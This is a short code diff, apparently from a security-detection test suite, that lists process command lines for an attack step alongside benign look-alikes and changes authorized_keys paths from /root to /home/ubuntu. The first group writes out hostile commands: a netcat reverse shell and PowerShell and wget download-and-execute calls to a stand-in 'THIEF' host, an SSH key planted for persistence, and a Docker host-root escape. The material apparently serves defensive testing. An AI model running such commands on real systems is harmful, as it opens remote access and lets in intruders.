@@ -51,7 +51,7 @@ STRANGE: Final = AttackStep(
         (process(f"nc {THIEF} 443 -e /bin/sh", "/usr/bin/nc"),),
         (process(f"powershell -nop -c IEX (New-Object Net.WebClient).DownloadString('http://{THIEF}/a')"),),
         (process(f"bash -c wget -q http://{THIEF}/k -O /srv/k && chmod +x /srv/k && /srv/k"),),
-        (process("sh -c echo ssh-ed25519 AAAA x >> /root/.ssh/authorized_keys"),),
+        (process("sh -c echo ssh-ed25519 AAAA x >> /home/ubuntu/.ssh/authorized_keys"),),
         (process("docker run -it -v /:/host alpine chroot /host", "/usr/bin/docker"),),
     ),
     (
@@ -60,7 +60,7 @@ STRANGE: Final = AttackStep(
         (process("python train.py --encode base64"),),
         (process("docker run --gpus all -v /data:/data ml/serve:4", "/usr/bin/docker"),),
         (process("bash -c wget -q https://example.org/k && chmod +x k"),),
-        (process("sh -c cat /root/.ssh/authorized_keys"),),
+        (process("sh -c cat /home/ubuntu/.ssh/authorized_keys"),),
         (process("python /tmp/pip-build-1/setup.py", "/usr/bin/python3"),),
         (process("nc -z db 5432", "/usr/bin/nc"),),
         (process("powershell Invoke-WebRequest https://example.org/data.zip -OutFile data.zip"),),
